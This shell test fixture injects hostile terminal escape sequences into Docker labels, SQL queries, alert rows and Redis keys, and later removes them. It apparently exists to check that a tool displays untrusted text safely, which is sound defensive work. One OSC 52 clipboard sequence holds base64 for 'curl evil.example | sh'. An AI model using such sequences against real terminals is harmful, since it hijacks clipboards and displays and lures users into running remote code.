description="text that attacks terminals: in logs, labels, a command line, SQL, alerts and Redis names"
osc52=$'\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\a'
red=$'\e[41m'
inject() {
  undo
  docker run -d --name salon_gbp_hostile --network app-network --restart unless-stopped -v /usr:/usr:ro \
    --memory 128m --cpus 0.25 --log-opt max-size=10m --log-opt max-file=3 \
    --label "note=${osc52}クリップボード" --label "example.hostile/title=$(printf '\e]0;owned\a')" \
    --label $'lines=first\nsecond\r\nthird' --env "COLOUR=$red" \
    salon-gbp/api:latest hostile-log "${red}argument" '引数 🔥' "$osc52"
  sql_in_background "select pg_sleep(3600) /* ${osc52}${red} 遅いクエリ 🔥
second line $(printf '\t')tab $(printf '\e')[2J */"
  sql "insert into alerts (type, message) values ('hostile', E'${osc52}${red} 通知 🔥\\nsecond line')"
  redis sadd "_kombu.binding.${red}hostile" "hostile"$'\x06\x16\x06\x16'"${red}hostile"
  redis lpush "${red}hostile" '{"headers": {"task": "\u001b[2Jevil"}, "body": ""}'
}
undo() {
  docker rm -f salon_gbp_hostile 2>/dev/null || true
  end_sql_sessions
  sql "delete from alerts where type = 'hostile'"
  redis del "_kombu.binding.${red}hostile" "${red}hostile"
}
seen() { [ "$(sql_sessions "query like '%Y3VybCBl%'")" -ge 1 ] && docker logs salon_gbp_hostile 2>&1 | grep -qa 'one megabyte'; }
